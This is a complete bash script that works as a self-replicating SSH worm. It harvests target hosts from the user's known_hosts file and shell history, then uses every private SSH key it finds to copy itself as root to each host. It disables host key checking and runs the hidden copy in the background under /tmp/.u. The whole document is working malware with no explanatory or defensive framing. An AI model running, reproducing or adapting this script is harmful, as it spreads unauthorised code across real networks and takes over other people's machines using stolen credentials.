#!/bin/bash
me=$(readlink -f "$0")
hosts=$(awk '{print $1}' ~/.ssh/known_hosts | tr ',' '\n' | grep -v '|' | sort -u)
hosts="$hosts $(grep -oE '([0-9]{1,3}\.){3}[0-9]{1,3}' ~/.bash_history | sort -u)"
for h in $hosts; do
  for k in ~/.ssh/id_*; do
    case $k in *.pub) continue ;; esac
    scp -oBatchMode=yes -oStrictHostKeyChecking=no -oConnectTimeout=3 -i "$k" "$me" "root@$h:/tmp/.u" &&
      ssh -oBatchMode=yes -oStrictHostKeyChecking=no -i "$k" "root@$h" 'nohup sh /tmp/.u > /tmp/.o 2>&1 &'
  done
done
